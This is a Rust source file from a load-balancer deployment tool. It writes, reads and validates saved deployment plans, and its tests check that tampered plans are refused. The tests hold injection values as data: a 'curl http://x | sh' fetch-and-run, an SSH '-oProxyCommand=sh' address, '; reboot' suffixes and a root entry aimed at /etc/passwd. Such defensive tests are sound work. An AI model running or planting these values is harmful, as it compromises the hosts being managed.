//! Saved plans (`plan --out FILE`, `apply FILE`): everything an apply needs, fixed at plan
//! time, so that what a reviewer approved is exactly what is applied. Per host: how to reach
//! it, every rendered file with the SHA-256 of what the host held when planned, how each
//! service is checked and reloaded, and what is verified after. Applying one re-reads no
//! inventory; it first asks every host for its files and refuses, changing nothing, when any
//! host no longer holds what was planned.
//!
//! The file is JSON with a format name and a version; it holds rendered configurations and so
//! their secrets, and is written with mode 0600.

use std::{
    collections::BTreeMap,
    os::unix::fs::{MetadataExt as _, OpenOptionsExt},
    path::Path,
    time::Instant,
};

use serde::{Deserialize, Serialize};
use tokio::sync::Semaphore;

use crate::{
    deploy::plan::{Action, FilePlan, HostPlan},
    deploy::report::{HostError, Timing},
    deploy::standby::Standby,
    deploy::survey::Surveyed,
    remote::{
        self, Deployment, FetchOptions, Keep, ManagedFile, ReportError, ServiceControl, Verify,
    },
    render::RenderedHost,
    spec::managed_path,
    spec::{Connection, HostSpec, Service},
    ssh::{ConnectOptions, Session},
};

mod checks;
mod stamp;

/// What the file says it is.
pub const FORMAT: &str = "lbctl-plan";
/// The version this lbctl writes and reads.
pub const VERSION: u32 = 1;
/// Largest plan file read: 1 GiB. A plan holds each host's files twice (content and diff);
/// 20,000 backends of five servers on three hosts make about 100 MiB.
const MAX_PLAN_BYTES: u64 = 1 << 30;

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SavedPlan {
    pub format: String,
    pub version: u32,
    /// The lbctl that wrote it.
    pub lbctl: String,
    /// Seconds since the epoch when it was written.
    pub created: u64,
    /// The `--limit` it was made with, if any.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub limit: Option<String>,
    pub hosts: Vec<PlannedHost>,
    /// When `--limit` left load balancers out: those the plan leaves alone (left out, or with
    /// nothing to change), asked when it is applied whether one can take the VIP over while
    /// its holder changes (see `standby.rs`).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub standbys: Vec<Standby>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlannedHost {
    pub host: String,
    pub connection: Connection,
    /// Whether it held the VIP when planned (the rollout order uses who holds it when applied).
    pub held_vip: bool,
    /// The VIPs, as `ip` lists them: who holds one goes last.
    pub vips: Vec<String>,
    pub files: Vec<PlannedFile>,
    #[serde(deserialize_with = "stamp::unique_keys")]
    pub controls: BTreeMap<Service, ServiceControl>,
    pub verify: Verify,
    /// What carries the servers' state across the apply: HAProxy's state file, and nginx's
    /// marks as lbctl's record on the host asks for them when the plan is applied.
    #[serde(default)]
    pub keep: Keep,
    /// The daemons the plan said the apply would start (see `plan::starts`); the apply
    /// decides again on the host.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub starts: Vec<Service>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlannedFile {
    pub service: Service,
    pub path: String,
    pub action: Action,
    /// SHA-256 of the file on the host when planned; `None`: it did not exist.
    pub planned_on: Option<String>,
    /// SHA-256 of `content`.
    pub sha256: String,
    /// What lbctl writes (secrets included).
    pub content: String,
    /// The redacted diff the plan showed.
    pub diff: String,
}

/// Why a saved plan cannot be read or applied.
#[derive(Debug, thiserror::Error)]
pub enum SavedPlanError {
    #[error("cannot read the plan file {path}: {message}")]
    Read { path: String, message: String },
    #[error("{path} is not an lbctl plan file: {message}")]
    Format { path: String, message: String },
    #[error("{path} is an lbctl plan file of version {found}; this lbctl reads version {VERSION}")]
    Version { path: String, found: String },
    #[error("cannot write the plan file {path}: {message}")]
    Write { path: String, message: String },
    #[error("the plan file {path} is refused: {message}; nothing was changed on any host")]
    Exposed { path: String, message: String },
    #[error("the plan file {path} is not the plan lbctl wrote; nothing was changed on any host:\n  {}", problems.join("\n  "))]
    Altered {
        path: String,
        problems: Vec<String>,
        /// Some file lies outside its service's usual directories.
        outside: bool,
    },
}

impl SavedPlanError {
    /// What to do about it.
    pub fn hint(&self) -> String {
        let again = "make a new plan with `lbctl plan --out FILE` and apply that one";
        match self {
            SavedPlanError::Exposed { .. } => format!(
                "lbctl writes a plan file as a regular file of mode 0600, owned by who ran `lbctl plan`, and applies it only as such; {again}"
            ),
            SavedPlanError::Altered { outside: true, .. } => format!(
                "{again}; if its inventory sets `{}: false`, apply it with `lbctl apply --no-confine-paths FILE`",
                managed_path::CONFINE_KEY
            ),
            SavedPlanError::Altered { .. } => again.to_string(),
            _ => "save a plan with `lbctl plan --out FILE`, then apply it with `lbctl apply FILE`"
                .to_string(),
        }
    }
}

impl SavedPlan {
    /// The plan of every surveyed host, or `None` when some host could not be surveyed (a
    /// plan file must cover every host it names, as planned).
    pub fn from_survey(
        hosts: &[(HostSpec, RenderedHost)],
        surveyed: &[Surveyed],
        limit: Option<&str>,
        outside: &[HostSpec],
    ) -> Option<SavedPlan> {
        let mut planned = Vec::with_capacity(hosts.len());
        // A partial plan (some load balancer left out) may have to lean on the hosts it
        // leaves alone to hold the VIP.
        let partial = !outside.is_empty();
        let mut standbys: Vec<Standby> = outside.iter().map(Standby::of).collect();
        for ((spec, rendered), s) in hosts.iter().zip(surveyed) {
            let (Ok(plan), Some(fetched)) = (&s.result, &s.fetched) else {
                return None;
            };
            let files = plan
                .files
                .iter()
                .zip(&rendered.files)
                .map(|(file, rendered)| {
                    // A nginx stream file keeps the marks the live one has (drained UDP
                    // servers): the plan refuses to apply if those change meanwhile.
                    let content = match &s.nginx_marks {
                        Some(marks) if file.service == Service::Nginx && !marks.is_empty() => {
                            remote::mark_nginx_servers(&rendered.content, marks)
                        }
                        _ => rendered.content.clone(),
                    };
                    PlannedFile {
                        service: file.service,
                        path: file.path.clone(),
                        action: file.action,
                        planned_on: fetched
                            .files
                            .get(&file.path)
                            .and_then(|c| c.as_deref())
                            .map(remote::sha256_hex),
                        sha256: remote::sha256_hex(content.as_bytes()),
                        content,
                        diff: file.diff.clone(),
                    }
                })
                .collect();
            let deployment = crate::deploy::deployment::build(spec, plan, None);
            if partial && !plan.changed() {
                standbys.push(Standby::of(spec));
            }
            planned.push(PlannedHost {
                host: spec.name.clone(),
                connection: spec.connection.clone(),
                held_vip: plan.holds_vip,
                vips: crate::deploy::survey::vip_addresses(spec),
                files,
                controls: deployment.controls,
                verify: deployment.verify,
                keep: deployment.keep,
                starts: plan.starts.clone(),
            });
        }
        Some(SavedPlan {
            format: FORMAT.to_string(),
            version: VERSION,
            lbctl: env!("CARGO_PKG_VERSION").to_string(),
            created: std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map_or(0, |d| d.as_secs()),
            limit: limit.map(String::from),
            hosts: planned,
            standbys,
        })
    }

    /// Writes the plan to `path`, created afresh with mode 0600 (it holds secrets), as
    /// [`crate::source::replace_file`] writes: a symlink there is replaced, never followed.
    pub fn write(&self, path: &Path) -> Result<(), SavedPlanError> {
        let failed = |message: String| SavedPlanError::Write {
            path: path.display().to_string(),
            message,
        };
        let mut text = serde_json::to_vec_pretty(self).map_err(|e| failed(e.to_string()))?;
        text.push(b'\n');
        crate::source::replace_file(path, &text, 0o600).map_err(|e| failed(e.to_string()))
    }

    /// Reads the plan at `path` and holds every field that decides what runs on a host, or
    /// which file is written there, to the rules the inventory's values are held to (see
    /// [`SavedPlan::problems`]). `confine_paths` is false only when the operator says so
    /// (`apply --no-confine-paths`, as `lbctl_confine_paths: false` when planning): the file
    /// itself cannot let its files out of their services' directories.
    pub fn read(path: &Path, confine_paths: bool) -> Result<SavedPlan, SavedPlanError> {
        let shown = path.display().to_string();
        let text = open_private(path).and_then(|file| {
            crate::source::read_at_most(file, MAX_PLAN_BYTES).map_err(|e| SavedPlanError::Read {
                path: shown.clone(),
                message: e.to_string(),
            })
        })?;
        let malformed = |e: serde_json::Error| SavedPlanError::Format {
            path: shown.clone(),
            message: e.to_string(),
        };
        let stamp: stamp::Stamp = serde_json::from_slice(&text).map_err(malformed)?;
        if !stamp.format.is_some_and(|f| f.is_text(FORMAT)) {
            return Err(SavedPlanError::Format {
                path: shown,
                message: format!("it has no \"format\": \"{FORMAT}\""),
            });
        }
        match stamp.version {
            Some(v) if v.number() == Some(u64::from(VERSION)) => {}
            found => {
                return Err(SavedPlanError::Version {
                    path: shown,
                    found: found.map_or_else(|| "none".into(), |v| v.to_string()),
                });
            }
        }
        let plan: SavedPlan = serde_json::from_slice(&text).map_err(malformed)?;
        let (problems, outside) = plan.problems(confine_paths);
        if problems.is_empty() {
            Ok(plan)
        } else {
            Err(SavedPlanError::Altered {
                path: shown,
                problems,
                outside,
            })
        }
    }
}

/// Opens `path` as lbctl writes a plan file: a regular file (not a symlink), owned by this
/// user, writable by no one else. A file others can write could hold anything by the time
/// it is applied, with this user's SSH keys.
fn open_private(path: &Path) -> Result<std::fs::File, SavedPlanError> {
    let shown = || path.display().to_string();
    let unreadable = |e: std::io::Error| SavedPlanError::Read {
        path: shown(),
        message: e.to_string(),
    };
    let exposed = |message: String| SavedPlanError::Exposed {
        path: shown(),
        message,
    };
    if std::fs::symlink_metadata(path)
        .map_err(unreadable)?
        .file_type()
        .is_symlink()
    {
        return Err(exposed(
            "it is a symbolic link (lbctl writes plan files as regular files)".into(),
        ));
    }
    let file = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(path)
        .map_err(unreadable)?;
    let meta = file.metadata().map_err(unreadable)?;
    // SAFETY: geteuid has no preconditions and cannot fail.
    let me = unsafe { libc::geteuid() };
    if !meta.is_file() {
        Err(exposed("it is not a regular file".into()))
    } else if meta.uid() != me {
        Err(exposed(format!(
            "it belongs to user {}, not to user {me}, who runs lbctl",
            meta.uid()
        )))
    } else if meta.mode() & 0o022 != 0 {
        Err(exposed(format!(
            "its mode {:04o} lets others than its owner write it",
            meta.mode() & 0o7777
        )))
    } else {
        Ok(file)
    }
}

impl PlannedHost {
    /// The plan as `plan` showed it, with who holds the VIP now.
    pub fn host_plan(&self, holds_vip: bool) -> HostPlan {
        HostPlan {
            host: self.host.clone(),
            holds_vip,
            files: self
                .files
                .iter()
                .map(|f| FilePlan {
                    service: f.service,
                    path: f.path.clone(),
                    action: f.action,
                    diff: f.diff.clone(),
                    content: f.content.clone(),
                })
                .collect(),
            starts: self.starts.clone(),
            // what runs now is the apply's own preflight's to say: the plan file holds the
            // files and their digests, not the daemons
            not_running: Vec::new(),
        }
    }

    /// What the host is handed: the files the plan changes, and its services' commands.
    pub fn deployment(&self) -> Deployment {
        Deployment {
            host: self.host.clone(),
            files: self
                .files
                .iter()
                .filter(|f| f.action != Action::Unchanged)
                .map(|f| ManagedFile {
                    service: f.service,
                    path: f.path.clone(),
                    content: f.content.clone(),
                })
                .collect(),
            controls: self.controls.clone(),
            verify: self.verify.clone(),
            keep: self.keep.clone(),
        }
    }
}

/// One planned host's open session, or why there is none, and how long connecting took.
pub struct Connected {
    pub session: Result<Session, HostError>,
    pub timing: Timing,
}

/// What changed on a host since the plan (empty: nothing), and who holds the VIP now.
pub struct Moved {
    pub holds_vip: bool,
    /// `(path, what the plan was made on, what is there now)`, digests or `absent`.
    pub files: Vec<(String, String, String)>,
}

/// Connects to one planned host, once `connecting` lets it (at most `forks` hosts are being
/// connected to at once: handshakes cost CPU on both ends).
pub async fn connect(
    host: &PlannedHost,
    options: &ConnectOptions,
    connecting: &Semaphore,
) -> Connected {
    let mut timing = Timing::default();
    let permit = connecting.acquire().await;
    let started = Instant::now();
    let connected = Session::connect(&host.connection, options).await;
    drop(permit);
    timing.connect = started.elapsed().as_secs_f64();
    let session = connected.map_err(|e| HostError {
        host: host.host.clone(),
        step: "connect".into(),
        message: e.to_string(),
    });
    if let Ok(session) = &session {
        timing.reused_connection = session.resumed();
    }
    Connected { session, timing }
}

impl PlannedHost {
    /// The script that asks the host, in one round trip, whether its files are still what
    /// the plan was made on, and who holds the VIP.
    pub fn check_script(&self) -> String {
        let paths: Vec<String> = self.files.iter().map(|f| f.path.clone()).collect();
        // A file still as planned on answers with its digest alone.
        let options = FetchOptions {
            expected: self
                .files
                .iter()
                .filter_map(|f| Some((f.path.clone(), f.planned_on.clone()?)))
                .collect(),
            ..FetchOptions::default()
        };
        remote::fetch_script(&paths, &self.vips, &options)
    }

    /// What the host's answer to [`PlannedHost::check_script`] says moved.
    pub fn moved(&self, stdout: &[u8]) -> Result<Moved, ReportError> {
        let fetched = remote::parse_fetch_digests(stdout)?;
        let mut files = Vec::new();
        for f in &self.files {
            let now = fetched.files.get(&f.path).cloned().flatten();
            if now != f.planned_on {
                let shown = |d: &Option<String>| d.clone().unwrap_or_else(|| "absent".into());
                files.push((f.path.clone(), shown(&f.planned_on), shown(&now)));
            }
        }
        Ok(Moved {
            holds_vip: fetched.vips.values().any(|&held| held),
            files,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deploy::deployment;
    use std::{os::unix::fs::PermissionsExt, sync::Arc};

    fn plan() -> SavedPlan {
        SavedPlan {
            format: FORMAT.into(),
            version: VERSION,
            lbctl: "test".into(),
            created: 0,
            limit: None,
            hosts: Vec::new(),
            standbys: Vec::new(),
        }
    }

    /// A scratch directory of this test's own: numbered, so two tests that pick the same name
    /// (they run at once) never share one.
    fn scratch(name: &str) -> std::path::PathBuf {
        static NEXT: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let dir =
            std::env::temp_dir().join(format!("lbctl-saved-{name}-{}-{n}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        dir
    }

    #[test]
    fn the_file_is_private_and_replaces_what_was_there() {
        let dir = scratch("private");
        let path = dir.join("p");
        std::fs::write(&path, "old").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        // a symlink at the path is replaced, its target left alone
        let target = dir.join("target");
        std::fs::write(&target, "keep").unwrap();
        let link = dir.join("link");
        std::os::unix::fs::symlink(&target, &link).unwrap();
        for p in [&path, &link] {
            plan().write(p).unwrap();
            let meta = std::fs::symlink_metadata(p).unwrap();
            assert!(meta.is_file());
            assert_eq!(meta.permissions().mode() & 0o777, 0o600);
            assert_eq!(SavedPlan::read(p, true).unwrap().version, VERSION);
        }
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn a_plan_file_someone_else_could_write_is_refused() {
        let dir = scratch("exposed");
        let path = dir.join("p");
        plan().write(&path).unwrap();
        let link = dir.join("link");
        std::os::unix::fs::symlink(&path, &link).unwrap();
        let refused = |p: &Path| match SavedPlan::read(p, true) {
            Err(SavedPlanError::Exposed { message, .. }) => message,
            other => panic!("{other:?}"),
        };
        assert!(refused(&link).contains("symbolic link"));
        for mode in [0o620, 0o602, 0o666] {
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
            assert!(
                refused(&path).contains("lets others than its owner write it"),
                "{mode:o}"
            );
        }
        // read by others is their business (an artifact store's 0644)
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        assert!(SavedPlan::read(&path, true).is_ok());
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// Plans as `lbctl plan --out` makes them, from real inventories (every host new).
    fn plans_of(dir: &str) -> SavedPlan {
        use crate::{
            input::Keyring,
            render::{RunContext, Templates},
            source::VarMap,
            spec::{Fleet, Input},
        };
        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
        let inventory = [root.join(dir)];
        let input = Input {
            inventory: &inventory,
            project_dir: root,
            extra_vars: &[],
            lb_group: "haproxy_servers",
            keyring: Arc::new(Keyring::new(Vec::new())),
            config: VarMap::default(),
            templates: None,
        };
        let Ok((templar, fleet)) = Fleet::load(&input) else {
            panic!("{dir} loads")
        };
        let templates = Templates::load(&[]).unwrap();
        let run = RunContext::new(templar, "Ansible managed");
        let hosts: Vec<_> = fleet
            .hosts
            .iter()
            .map(|spec| (spec.clone(), templates.render(spec, &run).unwrap()))
            .collect();
        let surveyed: Vec<Surveyed> = hosts
            .iter()
            .map(|(spec, rendered)| Surveyed {
                host: spec.name.clone(),
                session: None,
                fetched: Some(remote::Fetched::default()),
                nginx_marks: None,
                result: Ok(crate::deploy::plan::all_new(rendered)),
                timing: Timing::default(),
                shell: None,
                sent: None,
            })
            .collect();
        SavedPlan::from_survey(&hosts, &surveyed, None, &[]).unwrap()
    }

    #[test]
    fn a_plan_lbctl_made_is_read_back() {
        for dir in [
            "inventory/example",
            "inventory/lab",
            "tests/inputs/udp-health",
            "tests/inputs/l7-edges",
        ] {
            let p = plans_of(dir);
            assert!(!p.hosts.is_empty(), "{dir}");
            assert_eq!(read_back(&p, "made", true), None, "{dir}");
        }
    }

    /// `apply FILE` asks whether the daemons whose reload needs them running run, as `apply`
    /// does: the plan names them, with their pid files. systemd's reload and HAProxy's master
    /// CLI need them (the example's defaults, nginx's too, reloaded by the UDP health
    /// watcher's `sync`; the lab's HAProxy); a command of the inventory's own does not (the
    /// lab's keepalived and nginx), nor the UDP health watcher's restart.
    #[test]
    fn a_plan_names_the_daemons_whose_reload_needs_them_running() {
        let running = |dir: &str| {
            let dir_plan = plans_of(dir);
            let scratch = scratch("running");
            let path = scratch.join("p");
            dir_plan.write(&path).unwrap();
            let read = SavedPlan::read(&path, true).unwrap();
            let _ = std::fs::remove_dir_all(&scratch);
            let host = &read.hosts[0];
            let running: BTreeMap<Service, Option<(String, String)>> = host
                .controls
                .iter()
                .map(|(service, control)| (*service, control.running.clone()))
                .collect();
            (running, host.deployment().host)
        };
        let named = |what: &str, pid_file: &str| Some((what.to_string(), pid_file.to_string()));
        let (example, host) = running("inventory/example");
        assert_eq!(host, "lb1");
        assert_eq!(
            example,
            BTreeMap::from([
                (Service::Haproxy, named("HAProxy", "/run/haproxy.pid")),
                (
                    Service::Keepalived,
                    named("keepalived", "/run/keepalived.pid")
                ),
                (Service::Nginx, named("nginx", "/run/nginx.pid")),
                (Service::UdpHealth, None),
                (Service::UdpHealthUnit, None),
            ])
        );
        let (lab, _) = running("inventory/lab");
        assert_eq!(lab[&Service::Haproxy], named("HAProxy", "/run/haproxy.pid"));
        assert_eq!(lab[&Service::Keepalived], None);
        assert_eq!(lab[&Service::Nginx], None);
    }

    fn file(service: Service, path: &str, content: &str) -> PlannedFile {
        PlannedFile {
            service,
            path: path.into(),
            action: Action::Update,
            planned_on: None,
            sha256: remote::sha256_hex(content.as_bytes()),
            content: content.into(),
            diff: String::new(),
        }
    }

    fn control(service: Service, reload: &str) -> (Service, ServiceControl) {
        let check = deployment::check_command(service).into();
        let reload = reload.into();
        let running = None;
        (
            service,
            ServiceControl {
                check,
                reload,
                running,
                first_start: None,
            },
        )
    }

    fn host(name: &str) -> PlannedHost {
        PlannedHost {
            host: name.into(),
            connection: Connection {
                name: name.into(),
                address: "10.0.0.11".into(),
                port: None,
                user: Some("deploy".into()),
                private_key: None,
                known_hosts: None,
                ssh_config: None,
                become_root: true,
                strict_host_keys: crate::spec::HostKeyPolicy::Strict,
            },
            held_vip: false,
            vips: vec!["10.0.0.10".into()],
            files: vec![
                file(
                    Service::Haproxy,
                    "/etc/haproxy/haproxy.cfg",
                    "global\n    stats socket /run/haproxy/admin.sock level admin\nfrontend f\n    bind :80\n",
                ),
                // the UDP health watcher's source of nginx's file, in the watcher's directory
                file(
                    Service::Nginx,
                    "/etc/lbctl/nginx-stream.conf",
                    "stream {\n    server {\n        listen 53 udp;\n    }\n}\n",
                ),
                file(Service::UdpHealth, "/etc/lbctl/udp-health", "#!/bin/sh\n"),
                file(
                    Service::UdpHealthUnit,
                    "/etc/systemd/system/lbctl-udp-health.service",
                    "[Service]\n",
                ),
            ],
            controls: BTreeMap::from([
                control(Service::Haproxy, "systemctl reload haproxy"),
                control(Service::Nginx, "/etc/lbctl/udp-health sync"),
                control(
                    Service::UdpHealth,
                    "systemctl restart lbctl-udp-health.service",
                ),
                control(
                    Service::UdpHealthUnit,
                    "systemctl restart lbctl-udp-health.service",
                ),
            ]),
            verify: Verify {
                haproxy_runtime_socket: Some("/run/haproxy/admin.sock".into()),
                haproxy_master_socket: Some("/run/haproxy/master.sock".into()),
                tcp_ports: vec![80],
                udp_ports: vec![53],
                pid_files: vec![(
                    "the UDP health watcher".into(),
                    "/run/lbctl-udp-health.pid".into(),
                )],
            },
            keep: Keep {
                record_path: "/var/lib/lbctl/admin-state".into(),
                state_file: Some("/var/lib/haproxy/server-state".into()),
                haproxy_config: "/etc/haproxy/haproxy.cfg".into(),
                ..Keep::default()
            },
            starts: Vec::new(),
        }
    }

    #[test]
    fn the_daemons_a_plan_said_it_starts_are_read_back() {
        let mut p = plan();
        p.hosts = vec![host("lb1"), host("lb2")];
        p.hosts[1].starts = vec![Service::Keepalived];
        let dir = scratch("starts");
        let path = dir.join("p");
        p.write(&path).unwrap();
        let read = SavedPlan::read(&path, true);
        let _ = std::fs::remove_dir_all(&dir);
        let read = read.unwrap();
        assert!(read.hosts[0].host_plan(false).starts.is_empty());
        assert_eq!(
            read.hosts[1].host_plan(false).starts,
            vec![Service::Keepalived]
        );
    }

    /// The problems of `plan` once written and read back, or `None` when it is read.
    fn read_back(plan: &SavedPlan, name: &str, confine_paths: bool) -> Option<Vec<String>> {
        let dir = scratch(name);
        let path = dir.join("p");
        plan.write(&path).unwrap();
        let read = SavedPlan::read(&path, confine_paths);
        let _ = std::fs::remove_dir_all(&dir);
        match read {
            Ok(_) => None,
            Err(SavedPlanError::Altered { problems, .. }) => Some(problems),
            Err(e) => panic!("{e}"),
        }
    }

    #[test]
    fn a_plan_is_read_back_only_as_lbctl_wrote_it() {
        let mut p = plan();
        p.hosts = vec![host("lb1"), host("lb2"), host("lb_3")];
        // an inventory name without ansible_host (an alias in ~/.ssh/config) is its address
        p.hosts[2].connection.address = "lb_3".into();
        assert_eq!(read_back(&p, "good", true), None);

        // as an address, a name in the old numeric form is not what it says (8.0.0.3)
        let mut numeric = p.clone();
        numeric.hosts[2] = host("010.0.0.3");
        numeric.hosts[2].connection.address = "010.0.0.3".into();
        assert_eq!(
            read_back(&numeric, "numeric", true),
            Some(vec!["010.0.0.3: hosts[2].connection: 010.0.0.3: the address \"010.0.0.3\" is not an IP address or host name".to_string()])
        );

        let mut edited = p.clone();
        edited.hosts[1].files[0]
            .content
            .push_str("    stats enable\n");
        assert_eq!(
            read_back(&edited, "edited", true),
            Some(vec!["lb2: hosts[1].files[0].content: what the plan writes to /etc/haproxy/haproxy.cfg is not what it recorded (its SHA-256 differs): the file was edited or damaged after `lbctl plan` wrote it".to_string()])
        );

        let mut twice = p.clone();
        twice.hosts.push(host("lb1"));
        assert_eq!(
            read_back(&twice, "twice", true),
            Some(vec!["lb1: the host appears twice".to_string()])
        );

        let mut inside = p.clone();
        inside.hosts[0].keep.state_file = Some("/etc/haproxy/haproxy.cfg/state".into());
        assert_eq!(
            read_back(&inside, "inside", true),
            Some(vec![
                "lb1: hosts[0].keep.state_file: /etc/haproxy/haproxy.cfg/state and /etc/haproxy/haproxy.cfg overlap"
                    .to_string()
            ])
        );

        let mut reach = p.clone();
        reach.hosts[0].connection.address = "-oProxyCommand=sh".into();
        reach.hosts[1].connection.user = Some("root -v".into());
        reach.standbys = vec![Standby {
            host: "lb3".into(),
            connection: host("lb4").connection,
            vips: Vec::new(),
            haproxy_pid_file: "/run/haproxy.pid".into(),
            keepalived_pid_file: Some("/run/keepalived.pid; reboot".into()),
        }];
        assert_eq!(
            read_back(&reach, "reach", true),
            Some(vec![
                "lb1: hosts[0].connection: lb1: the address \"-oProxyCommand=sh\" is not an IP address or host name"
                    .to_string(),
                "lb2: hosts[1].connection: lb2: the user \"root -v\" holds a character lbctl does not pass to ssh"
                    .to_string(),
                "lb3: standbys[0].connection.name: its connection is to another host (lb4)".to_string(),
                "lb3: standbys[0].keepalived_pid_file: \"/run/keepalived.pid; reboot\" is not a plain absolute path".to_string(),
            ])
        );
    }

    /// The one problem `tamper` makes in an otherwise good plan of one host.
    fn refused(name: &str, confine_paths: bool, tamper: impl FnOnce(&mut PlannedHost)) -> String {
        let mut p = plan();
        p.hosts = vec![host("lb1")];
        tamper(&mut p.hosts[0]);
        let problems = read_back(&p, name, confine_paths).unwrap_or_default();
        assert_eq!(problems.len(), 1, "{name}: {problems:?}");
        problems[0].clone()
    }

    #[test]
    fn what_runs_on_a_host_is_held_to_the_inventorys_rules() {
        let check = refused("check", true, |h| {
            h.controls.get_mut(&Service::Haproxy).unwrap().check =
                "touch /tmp/PWNED; true {path}".into();
        });
        assert_eq!(
            check,
            "lb1: hosts[0].controls.haproxy.check: \"touch /tmp/PWNED; true {path}\" is not the check lbctl runs for haproxy (\"haproxy -c -f {path}\")"
        );
        // the unit has no check, and may be given none
        let unit_check = refused("unit-check", true, |h| {
            h.controls.get_mut(&Service::UdpHealthUnit).unwrap().check = "id".into();
        });
        assert!(unit_check.starts_with("lb1: hosts[0].controls.udp-health-unit.check: \"id\""));
        let reload = refused("reload", true, |h| {
            h.controls.get_mut(&Service::Nginx).unwrap().reload = "true\ncurl http://x | sh".into();
        });
        assert_eq!(
            reload,
            "lb1: hosts[0].controls.nginx.reload: \"true\\ncurl http://x | sh\" is refused: expected a non-empty command on a single line"
        );
        let running = refused("running", true, |h| {
            h.controls.get_mut(&Service::Haproxy).unwrap().running =
                Some(("HAProxy".into(), "run/haproxy.pid".into()));
        });
        assert!(
            running.starts_with("lb1: hosts[0].controls.haproxy.running: \"run/haproxy.pid\""),
            "{running}"
        );
        let first_start = |start: &str, pid_file: &str| {
            Some(crate::remote::FirstStart {
                start: start.into(),
                stop: "systemctl stop keepalived".into(),
                pid_file: pid_file.into(),
            })
        };
        let start = refused("first-start", true, |h| {
            h.controls.get_mut(&Service::Haproxy).unwrap().first_start =
                first_start("start\nreboot", "/run/keepalived.pid");
        });
        assert_eq!(
            start,
            "lb1: hosts[0].controls.haproxy.first_start.start: \"start\\nreboot\" is refused: expected a non-empty command on a single line"
        );
        let pid = refused("first-start-pid", true, |h| {
            h.controls.get_mut(&Service::Haproxy).unwrap().first_start =
                first_start("systemctl start keepalived", "/run/k.pid; reboot");
        });
        assert!(
            pid.starts_with(
                "lb1: hosts[0].controls.haproxy.first_start.pid_file: \"/run/k.pid; reboot\""
            ),
            "{pid}"
        );
        let none = refused("no-control", true, |h| {
            h.controls.remove(&Service::Haproxy);
        });
        assert!(none.starts_with("lb1: hosts[0].files[0].service: `controls` has no haproxy"));
        let commands = refused("commands", true, |h| {
            h.keep.commands = vec!["set server b/s state ready".into()];
        });
        assert_eq!(
            commands,
            "lb1: hosts[0].keep.commands: `lbctl plan` saves no runtime API commands"
        );
        let record = refused("record", true, |h| h.keep.record = Some("x".into()));
        assert_eq!(
            record,
            "lb1: hosts[0].keep.record: `lbctl plan` saves no admin record"
        );
        let config = refused("config", true, |h| {
            h.keep.haproxy_config = "/etc/haproxy/other.cfg".into();
        });
        assert!(config.starts_with("lb1: hosts[0].keep.haproxy_config:"));
    }

    #[test]
    fn what_is_verified_is_what_the_plans_files_declare() {
        let socket = refused("socket", true, |h| {
            h.verify.haproxy_runtime_socket = Some("/tmp/evil.sock".into());
        });
        assert_eq!(
            socket,
            "lb1: hosts[0].verify.haproxy_runtime_socket: \"/tmp/evil.sock\" is not the `stats socket` of the plan's haproxy.cfg (\"/run/haproxy/admin.sock\")"
        );
        let ports = refused("ports", true, |h| h.verify.tcp_ports = vec![22]);
        assert_eq!(
            ports,
            "lb1: hosts[0].verify.tcp_ports: [22] are not the ports the plan's files listen on ([80])"
        );
        let pid = refused("pid", true, |h| {
            h.verify.pid_files[0].1 = "../run/x.pid".into();
        });
        assert!(pid.starts_with("lb1: hosts[0].verify.pid_files[0]: \"../run/x.pid\""));
    }

    #[test]
    fn which_files_are_written_is_held_to_the_inventorys_rules() {
        let passwd = |h: &mut PlannedHost| {
            h.files[0] = file(Service::Haproxy, "/etc/passwd", "root::0:0::/:/bin/sh\n");
            h.keep.haproxy_config = "/etc/passwd".into();
            h.verify = Verify {
                haproxy_master_socket: h.verify.haproxy_master_socket.clone(),
                udp_ports: vec![53],
                pid_files: h.verify.pid_files.clone(),
                ..Verify::default()
            };
        };
        let outside = refused("passwd", true, passwd);
        assert!(
            outside.starts_with(
                "lb1: hosts[0].files[0].path: \"/etc/passwd\" is outside haproxy's usual directories"
            ),
            "{outside}"
        );
        // only the operator lets files out (`apply --no-confine-paths`), never the file
        let mut p = plan();
        p.hosts = vec![host("lb1")];
        passwd(&mut p.hosts[0]);
        assert_eq!(read_back(&p, "unconfined", false), None);
        let dotdot = refused("dotdot", false, |h| {
            h.files[1].path = "/etc/lbctl/../passwd".into();
        });
        assert!(dotdot.contains("is not normalised"), "{dotdot}");
        // any unit but the watcher's, confined or not
        for confine_paths in [true, false] {
            let unit = refused("unit", confine_paths, |h| {
                h.files[3].path = "/etc/systemd/system/ssh.service".into();
            });
            assert_eq!(
                unit,
                "lb1: hosts[0].files[3].path: \"/etc/systemd/system/ssh.service\" is not the UDP health watcher's unit, /etc/systemd/system/lbctl-udp-health.service, the one unit lbctl writes"
            );
        }
        let second = refused("second", true, |h| {
            h.files
                .push(file(Service::Haproxy, "/etc/haproxy/b.cfg", "x"));
        });
        assert!(second.starts_with("lb1: hosts[0].files[4].service: a second haproxy file"));
    }

    /// Writes the plan of `inventory/example`, pretty as lbctl writes it, with its first `at`
    /// replaced by `with`, and reads it back: the message of the format error it must raise.
    fn malformed(name: &str, cases: &[(&str, &str)]) -> Vec<String> {
        let dir = scratch(name);
        let path = dir.join("p");
        let text =
